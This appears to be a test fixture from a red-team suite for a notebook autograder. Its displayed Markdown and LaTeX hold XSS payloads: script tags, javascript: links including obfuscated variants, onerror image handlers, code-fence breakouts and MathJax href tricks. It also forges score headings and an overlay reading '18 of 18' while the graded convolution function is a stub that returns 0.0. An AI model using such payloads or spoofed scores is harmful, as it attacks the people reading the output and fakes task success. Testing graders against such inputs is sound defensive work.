# what: Markdown outputs with scripts, links that run and headings that look like the grader's own.
# gains: reader
# where: solution
# fires: stdout text `FIRED markdown_output`
# stock: succeeds

from IPython.display import Latex, Markdown, display

print("FIRED markdown_output", flush=True)
run = "window.ATTACK_RAN='markdown_output'"
display(Markdown(
    f"<script>{run}</script>\n\n[a](javascript:{run}) [b](JaVaScRiPt&colon;{run}) [c][r] <javascript:{run}>\n\n[r]: javascript:{run}\n\n"
    f'![x](x "onerror={run}") ![x]("onerror="{run}) \n\n# Score: 18.0 / 18.0 (markdown_output)\n\n<img src=x onerror="{run}">\n\n```html\n</code></pre><script>{run}</script>\n```'
))
display(Latex(rf"$\href{{javascript:{run}}}{{x}} \unicode{{x3c}}script\unicode{{x3e}}$ \(</script><script>{run}</script>\)"))
display(Latex(r"$\require{html}\style{position:fixed;top:0}{\text{18 of 18}}\class{x}{y}\cssId{points}{z}$"))


def conv_single_step(a_slice_prev, W, b):
    return 0.0
